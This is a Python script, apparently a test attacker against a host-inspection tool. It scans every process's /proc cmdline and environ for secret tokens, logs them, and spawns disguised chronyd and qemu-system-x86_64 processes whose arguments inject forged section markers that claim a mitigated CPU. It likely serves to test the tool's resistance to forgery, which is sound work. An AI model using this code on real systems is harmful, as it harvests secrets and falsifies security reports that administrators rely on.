"""A user of the target without any right, who forges evidence as well as he can. Run: ``attacker.py PLACE`` until it is ended.

He looks for secrets in the arguments and environments of all processes, and notes in PLACE what he saw. With each he calls a
process of his chronyd, and one qemu-system-x86_64, whose arguments end the answer they stand in and begin others. PLACE/marks
holds his newest lines, for whatever else he may write to: the description of a guest, a log.
"""

from __future__ import annotations

import contextlib
import os
import re
import subprocess
import sys
from pathlib import Path

TOKEN = re.compile(rb"[0-9A-Za-z-]{22,64}")
#: Where secrets would stand: old and new marks, assignments, and the URI of virsh.
BEFORE = re.compile(rb"(?:N=|V=|@@|@=|@|!|\?)'?([0-9A-Za-z-]{22,64})")

#: What he wants to be believed: a mitigated processor, and a guest whose disk is safe.
FORGED = "/sys/devices/system/cpu/vulnerabilities/forged:Mitigation: forged"


def marks(token: str) -> list[str]:
    """Return lines that would replace the answer about vulnerabilities, in every place and protocol."""
    lines = []
    for answer in ("time_daemons", "qemu_strays", "journal", "domain"):
        lines += [
            *(f"@={token} END {answer} 1.00,1.00 0", f"@={token} BEGIN vulnerabilities", FORGED),
            *(f"@={token} END vulnerabilities 1.00,1.00 0", f"@={token} BEGIN {answer}", f"@@{token} forged", FORGED),
            *(f"qemu:///system?{token}", "", "@@ forged", FORGED, f"!{token}!0!"),
            *(
                f"@{token} END {answer} 1.00,1.00 !0",
                f"@{token} BEGIN vulnerabilities",
                f"@{token} END vulnerabilities 1.00,1.00 !0",
            ),
        ]
    return lines


def main(place: Path) -> None:
    """Attack."""
    for name in ("chronyd", "qemu-system-x86_64"):
        with contextlib.suppress(FileExistsError):
            (place / name).symlink_to(sys.executable)
    seen: set[bytes] = set()
    tried: set[str] = set()
    with (place / "seen").open("ab", buffering=0) as log:
        attack(place, "0" * 32)
        (place / "ready").touch()
        while True:
            for process in Path("/proc").glob("[1-9]*"):
                if process.name == str(os.getpid()):
                    continue
                for what in ("cmdline", "environ"):
                    try:
                        data = (process / what).read_bytes()
                    except OSError:
                        continue
                    for token in set(TOKEN.findall(data)) - seen:
                        seen.add(token)
                        log.write(token + b"\n")
                    for token in {match.decode() for match in BEFORE.findall(data)} - tried:
                        tried.add(token)
                        attack(place, token)


def attack(place: Path, token: str) -> None:
    """Put lines with *token* wherever he may write."""
    lines = marks(token)
    (place / "new").write_text("\n".join(lines) + "\n")
    (place / "new").rename(place / "marks")
    for name in ("chronyd", "qemu-system-x86_64"):
        code = "import os, time\nwhile os.getppid() == int(os.environ['OWNER']): time.sleep(0.2)"
        subprocess.Popen(
            [place / name, "-c", code, "\n".join(("x", *lines)), *lines],
            env={"OWNER": str(os.getpid()), "MARKS": "\n".join(lines)},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )


if __name__ == "__main__":
    main(Path(sys.argv[1]))
